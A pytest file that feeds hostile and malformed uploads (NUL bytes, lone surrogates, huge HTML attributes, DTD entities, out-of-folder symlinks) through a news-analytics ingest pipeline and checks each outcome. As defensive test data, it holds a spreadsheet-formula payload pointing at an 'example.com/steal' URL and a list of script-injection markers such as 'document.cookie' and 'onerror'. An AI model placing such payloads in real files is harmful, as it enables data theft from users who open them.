"""Hostile and edge-case files (built by ``tests/hostile/files.py``) through the real upload
path, ``dashboard.data.read_uploads`` with the settings' caps, and the ingest pipeline into a
fresh store, with the exact outcome of each; after each one, a good file still reads.

Every test that stores runs on a SQLite file, and on PostgreSQL too when
``NEWS_TEST_POSTGRES_URL`` names an empty database (the ``db_url`` fixture of the store tests):
the two backends must give the same outcome. One bad item (a line, a row, an attribute, a
paragraph) costs that item only, with its reason.

What each reader makes of such files is tested module by module in ``tests/analytics/readers/``.
"""

from __future__ import annotations

import json
import time
import unicodedata
from pathlib import Path

import pytest
from hostile import files
from hostile.files import CASES, GOOD_TEXT, PARAGRAPHS, Case
from spacy.language import Language
from sqlalchemy import Engine, select
from store import support

from analytics import store
from analytics.cli import main
from analytics.models import ReadOutcome
from analytics.pipeline import ingest_outcomes
from analytics.readers import read_upload
from analytics.settings import Limits, Settings, load_settings
from analytics.store.schema import articles, terms
from dashboard import data as dashboard_data

LIMIT_VARIABLES = (
    "NEWS_MAX_UPLOAD_MB",
    "NEWS_MAX_FILES",
    "NEWS_MAX_ARTICLE_CHARS",
    "NEWS_MAX_ARCHIVE_ENTRIES",
    "NEWS_MAX_UNCOMPRESSED_MB",
    "NEWS_MAX_COMPRESSION_RATIO",
    "NEWS_MAX_ARCHIVE_DEPTH",
    "NEWS_PARSE_TIMEOUT_S",
    "NEWS_PARSE_MEMORY_MB",
)
db_url = support.db_url
"""The store tests' fixture: each test that stores runs on SQLite, and on PostgreSQL if set."""
GOOD_PDF = files.text_pdf([["A good report", None, "The next upload works as before."]])


@pytest.fixture
def settings_env(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """The default limits, whatever the environment running the tests sets."""
    for variable in LIMIT_VARIABLES:
        monkeypatch.delenv(variable, raising=False)
    return monkeypatch


def rows(engine: Engine, nlp: Language, outcomes: list[ReadOutcome]) -> list[tuple[str, ...]]:
    return [
        (result.name, result.status, result.reason)
        for result in ingest_outcomes(engine, nlp, outcomes)
    ]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_file(
    case: Case, settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    for variable, value in case.env.items():
        settings_env.setenv(variable, value)
    data = case.build()

    started = time.perf_counter()
    outcomes = dashboard_data.read_uploads(((case.name, data),))
    seconds = time.perf_counter() - started

    assert rows(engine, nlp, outcomes) == list(case.expected(data))
    assert seconds < 15, f"{case.id} took {seconds:.1f} s"
    # The single-outcome API agrees: the same outcome, or the entries' articles put together.
    merged = read_upload(case.name, data, limits=load_settings())
    if len(outcomes) == 1 and outcomes[0].name == case.name:
        assert merged == outcomes[0]
    else:
        assert merged.articles == tuple(a for outcome in outcomes for a in outcome.articles)
    # The next upload works as if nothing had happened (a PDF: through the worker process).
    (after,) = dashboard_data.read_uploads((("after.pdf", GOOD_PDF),))
    assert (after.error, [a.title for a in after.articles]) == ("", ["A good report"])


# --- what the accepted files become in the store ---------------------------------------------


def test_no_sentence_punctuation_is_stored_with_reliability_flags(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("notes.txt", files.no_punctuation_text()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    flags = store.flag_table(engine)
    reasons = flags.loc[flags["article_id"] == result.article_id, "reason"]
    assert result.status == "added"
    assert reasons.str.contains("no sentence punctuation").any()


def test_formula_title_is_stored_verbatim(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("formula.csv", files.formula_csv()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    detail = store.article_detail(engine, result.article_id)
    assert detail is not None
    assert detail["title"] == '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'


def test_script_and_event_handlers_are_not_in_the_body(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("page.html", files.script_html()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    detail = store.article_detail(engine, result.article_id)
    assert detail is not None
    body = detail["body"]
    assert "Residents can comment until the end of the month." in body
    for script in ("document.cookie", "evil.example", "alert", "onerror", "<script"):
        assert script not in body


# --- limits through the upload page and the settings -----------------------------------------


def test_too_many_files_in_one_upload(settings_env: pytest.MonkeyPatch) -> None:
    settings_env.setenv("NEWS_MAX_FILES", "2")
    uploads = tuple((f"{n}.txt", GOOD_TEXT.encode()) for n in range(3))
    message = "too many files in one upload: 3; the limit is 2 (NEWS_MAX_FILES)"
    assert dashboard_data.read_uploads(uploads) == [
        ReadOutcome(f"{n}.txt", error=message) for n in range(3)
    ]


def test_settings_have_the_limits_with_defaults() -> None:
    settings = load_settings({})
    assert isinstance(settings, Limits)  # the settings carry the limits, one definition
    assert (
        settings.max_upload_mb,
        settings.max_files,
        settings.max_article_chars,
        settings.max_archive_entries,
        settings.max_uncompressed_mb,
        settings.max_compression_ratio,
        settings.max_archive_depth,
        settings.parse_timeout_s,
        settings.parse_memory_mb,
    ) == (50, 200, 1_000_000, 500, 200, 100, 2, 20, 1024)
    assert load_settings({"NEWS_PARSE_TIMEOUT_S": "2.5", "NEWS_MAX_ARCHIVE_DEPTH": "1"}) == (
        Settings(
            db_url=settings.db_url,
            spacy_model=settings.spacy_model,
            data_dir=settings.data_dir,
            parse_timeout_s=2.5,
            max_archive_depth=1,
        )
    )


# --- one bad item costs one item, the same on both backends -----------------------------------


def _jsonl(*records: dict[str, str]) -> bytes:
    return "\n".join(json.dumps(record) for record in records).encode() + b"\n"


def _results(engine: Engine, nlp: Language, uploads: tuple[tuple[str, bytes], ...]) -> list:
    outcomes = dashboard_data.read_uploads(uploads)
    return [(r.name, r.status, r.reason) for r in ingest_outcomes(engine, nlp, outcomes)]


def _bodies(engine: Engine) -> list[str]:
    with engine.connect() as conn:
        return list(conn.scalars(select(articles.c.body).order_by(articles.c.id)))


def test_lone_surrogate_line_does_not_sink_the_upload(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    surrogate = b'{"title": "Broken emoji", "text": "The mayor \\ud83d smiled at the council."}\n'
    good = _jsonl({"title": "Harbour", "text": PARAGRAPHS[0]})
    uploads = (("a.jsonl", good + surrogate), ("b.txt", GOOD_TEXT.encode()))
    assert _results(engine, nlp, uploads) == [
        ("a.jsonl#line 1", "added", ""),
        ("a.jsonl#line 2", "added", ""),
        ("b.txt", "added", ""),
    ]
    assert "The mayor \ufffd smiled at the council." in _bodies(engine)


def test_lone_surrogate_line_through_the_command_line(
    tmp_path: Path,
    db_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.jsonl").write_bytes(
        _jsonl({"text": PARAGRAPHS[0]}) + b'{"text": "Lone \\udc00 surrogate in a line."}\n'
    )
    assert main(["--db", db_url, "add", str(folder)]) == 0
    out = capsys.readouterr()
    assert "2 added, 0 already present, 0 rejected" in out.out
    assert "Traceback" not in out.err


def test_nul_lines_cost_their_lines_only(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    jsonl = (
        _jsonl({"text": PARAGRAPHS[0]}, {"text": PARAGRAPHS[1]})
        + b"\x00" * 512
        + b"\n"
        + _jsonl({"text": PARAGRAPHS[2]})
    )
    csv = f'text\n"{PARAGRAPHS[0]} Again."\nbad\x00row\n"{PARAGRAPHS[1]} Again."\n'.encode()
    outcomes = dashboard_data.read_uploads((("a.jsonl", jsonl), ("b.csv", csv)))
    assert [outcome.warnings for outcome in outcomes] == [
        ("line 3 holds NUL bytes (damaged or binary data)",),
        ("row 2 holds NUL bytes (damaged or binary data)",),
    ]
    assert rows(engine, nlp, outcomes) == [
        ("a.jsonl#line 1", "added", ""),
        ("a.jsonl#line 2", "added", ""),
        ("a.jsonl#line 4", "added", ""),
        ("b.csv#row 1", "added", ""),
        ("b.csv#row 3", "added", ""),
    ]


def test_nul_characters_are_removed_before_storing(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    # PostgreSQL refuses NUL in text, SQLite stores it: both get the text without it
    escaped = b'{"title": "Nul\\u0000 title", "source": "Wire\\u0000", "text": "Text\\u0000 here."}'
    stray = GOOD_TEXT.encode().replace(b"Monday", b"Mon\x00day")
    uploads = (("a.jsonl", escaped), ("b.txt", stray))
    assert _results(engine, nlp, uploads) == [
        ("a.jsonl#line 1", "added", ""),
        ("b.txt", "added", ""),
    ]
    with engine.connect() as conn:
        stored = conn.execute(select(articles.c.title, articles.c.source)).all()
    assert sorted(tuple(row) for row in stored) == [(files.TITLE, ""), ("Nul title", "Wire")]
    assert not any("\x00" in body for body in _bodies(engine))
    assert any("Monday evening" in body for body in _bodies(engine))


def test_huge_attribute_does_not_hide_the_page_text(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    page = (
        '<!DOCTYPE html><html><head><title>Two paragraphs</title></head><body><div data-x="'
        + "A" * (10 * 1024 * 1024)
        + f'"></div><p>{PARAGRAPHS[0]}</p><p>{PARAGRAPHS[1]}</p></body></html>'
    )
    assert _results(engine, nlp, (("page.html", page.encode()),)) == [("page.html", "added", "")]
    assert _bodies(engine) == [f"{PARAGRAPHS[0]}\n\n{PARAGRAPHS[1]}"]


def test_word_paragraph_with_an_entity_reference_is_kept(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    data = _patched_docx(
        files.docx_document(paragraphs=(PARAGRAPHS[0], "MARKER")),
        dtd='<!ENTITY town "Zürich">',
        old="<w:t>MARKER</w:t>",
        new="<w:t>The trams of &town; run again.</w:t>",
    )
    assert _results(engine, nlp, (("council.docx", data),)) == [("council.docx", "added", "")]
    assert _bodies(engine) == [f"{PARAGRAPHS[0]}\n\nThe trams of Zürich run again."]


def _patched_docx(data: bytes, *, dtd: str, old: str, new: str) -> bytes:
    import io
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = source.read(info.filename)
            if info.filename == "word/document.xml":
                xml = part.decode().replace("?>", f"?>\n<!DOCTYPE w:document [{dtd}]>", 1)
                part = xml.replace(old, new).encode()
            target.writestr(info, part)
    return out.getvalue()


def test_nfd_text_gives_the_same_terms_and_one_entity(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    nfc = (
        "Café owners in Zürich protested on Monday. The café association of Zürich said "
        "rents had doubled."
    )
    nfd = unicodedata.normalize(
        "NFD",
        "Zürich councillors met café owners on Tuesday. Zürich will review the café rents.",
    )
    assert "ü" not in nfd
    uploads = (("nfc.txt", nfc.encode()), ("nfd.txt", nfd.encode()))
    assert [status for _, status, _ in _results(engine, nlp, uploads)] == ["added", "added"]
    words = store.term_frequencies(engine).set_index("term")
    assert (words.loc["café", "n_articles"], words.loc["zürich", "n_articles"]) == (2, 2)
    with engine.connect() as conn:
        stored_terms = set(conn.scalars(select(terms.c.term)))
    assert all(unicodedata.is_normalized("NFC", term) for term in stored_terms)
    entities = store.entity_counts(engine)
    zurich = entities[entities["entity"].str.contains("rich")]
    assert list(zurich["entity"]) == ["Zürich"]
    assert list(zurich["n_articles"]) == [2]


def test_values_too_long_for_a_column_same_outcome_on_both_backends(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    token = "z" * 500
    upload = _jsonl(
        {"title": "Long token", "text": f"{PARAGRAPHS[0]} {token} ends the line."},
        {"title": "Long source", "source": "S" * 301, "text": PARAGRAPHS[1]},
        {"title": "Long language", "language": "L" * 40, "text": PARAGRAPHS[2]},
    )
    assert _results(engine, nlp, (("wide.jsonl", upload),)) == [
        ("wide.jsonl#line 1", "added", ""),
        (
            "wide.jsonl#line 2",
            "rejected",
            "its source is 301 characters long; the store takes at most 300 "
            "(is that column really the source?)",
        ),
        ("wide.jsonl#line 3", "added", ""),
    ]
    with engine.connect() as conn:
        longest = max(len(term) for term in conn.scalars(select(terms.c.term)))
        languages = list(conn.scalars(select(articles.c.language).order_by(articles.c.id)))
    assert longest <= 400
    assert languages == ["en", "en"]  # an overlong language value is detected instead


def test_folder_load_does_not_follow_links_out_of_the_folder(
    tmp_path: Path,
    db_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secret.txt").write_text("Private notes\n\nThe door code is 1234.\n")
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "story.txt").write_text(GOOD_TEXT)
    (folder / "secret.txt").symlink_to(outside / "secret.txt")
    (folder / "again.txt").symlink_to(folder / "story.txt")
    assert main(["--db", db_url, "add", str(folder)]) == 0
    out = capsys.readouterr()
    assert "1 added, 1 already present, 1 rejected" in out.out
    assert "secret.txt: a link to a file outside the folder, not followed" in out.err
    assert "door code" not in out.out + out.err
